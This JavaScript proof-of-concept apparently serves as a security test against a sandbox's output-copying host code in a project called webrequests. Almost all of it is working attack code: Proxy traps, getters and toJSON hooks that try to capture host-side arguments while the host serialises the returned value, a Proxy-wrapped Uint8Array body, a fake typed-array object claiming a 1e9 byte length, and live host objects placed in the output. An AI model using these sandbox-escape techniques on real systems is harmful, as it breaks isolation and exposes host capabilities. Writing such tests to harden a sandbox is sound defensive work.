// Source: written for webrequests (no public PoC): the answer of a scenario is copied out by host code
// (exportOutput, isPlainObject, toJson and hostBytes in libs/sandbox/src). This PoC returns values
// whose getters, toJSON hooks, Proxy traps and typed-array lookalikes run while the host copies them,
// in the hope of being called with host arguments, and a `$body` built to make the host read bytes
// from somewhere else.
// Tried: a Proxy output (every trap hands its arguments to the payload), toJSON returning host
// values, a $body that is a Proxy over a Uint8Array (when there is a Proxy), an object with a fake `buffer`/`byteLength`,
// and host objects in the output.
const makeProxy = (t, h) => { try { return new Proxy(t, h); } catch (e) { return t; } };
const seen = (label) => (...args) => { for (const a of args) __wr.use(a, label); };
const body = makeProxy(new Uint8Array([104, 105]), {
  get(t, k, r) { seen('$body get')(r, k); const v = Reflect.get(t, k); return typeof v === 'function' ? v.bind(t) : v; },
  getPrototypeOf(t) { seen('$body getPrototypeOf')(t); return Reflect.getPrototypeOf(t); },
});
const output = {
  plain: 'ok',
  host: { hash: crypto.createHash('sha256'), url: new URL('http://a.test/'), fn: crypto.createHash },
  toJsonHook: { toJSON(key) { __wr.use(this, 'toJSON this'); return { key }; } },
  get getter() { __wr.use(this, 'output getter this'); return 'got'; },
  fakeBytes: { buffer: { byteLength: 1e9 }, byteOffset: 0, byteLength: 1e9, length: 1e9 },
  $body: body,
};
return makeProxy(output, {
  get(t, k, r) { seen('output get')(r); return Reflect.get(t, k); },
  has(t, k) { seen('output has')(t); return Reflect.has(t, k); },
  ownKeys(t) { seen('output ownKeys')(t); return Reflect.ownKeys(t); },
  getOwnPropertyDescriptor(t, k) { seen('output descriptor')(t); return Reflect.getOwnPropertyDescriptor(t, k); },
  getPrototypeOf(t) { seen('output getPrototypeOf')(t); return Reflect.getPrototypeOf(t); },
});
